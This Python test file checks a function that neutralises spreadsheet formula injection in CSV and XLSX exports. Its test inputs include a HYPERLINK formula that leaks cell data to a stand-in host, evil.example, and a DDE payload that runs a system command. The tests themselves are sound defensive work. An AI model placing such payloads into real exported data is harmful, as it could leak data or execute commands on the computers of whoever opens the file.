"""Spreadsheet formula injection: text cells that would run as formulas are neutralised."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from core.downloads import neutralise_formula, spreadsheet_row


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
        ("+86 431 1234", "'+86 431 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_prefixed(text, expected):
    assert neutralise_formula(text) == expected


@pytest.mark.parametrize(
    "text", ["Wind farm phase 2", "风电场二期", "", " =not at the start", "Jilin Energy; = sign inside", "1e10"]
)
def test_ordinary_text_is_unchanged(text):
    assert neutralise_formula(text) == text


@pytest.mark.parametrize(
    "value", [Decimal("-250000000.00"), -5, 3.5, 0, None, True, datetime.date(2023, 8, 24), Decimal("1E+3")]
)
def test_numbers_and_other_values_stay_what_they_are(value):
    result = neutralise_formula(value)
    assert result == value
    assert type(result) is type(value)


def test_a_neutralised_row_writes_as_text_in_csv_and_xlsx_while_numbers_stay_numbers():
    row = spreadsheet_row(["=1+1", "@evil", Decimal("-12.50"), 7, "plain"])
    buffer = io.StringIO()
    csv.writer(buffer).writerow(row)
    assert buffer.getvalue().strip() == "'=1+1,'@evil,-12.50,7,plain"

    book = openpyxl.Workbook()
    book.active.append(row)
    data = io.BytesIO()
    book.save(data)
    cells = list(openpyxl.load_workbook(io.BytesIO(data.getvalue())).active[1])
    assert [cell.data_type for cell in cells] == ["s", "s", "n", "n", "s"]
    assert cells[0].value == "'=1+1"
    assert cells[2].value == Decimal("-12.50") or cells[2].value == -12.5
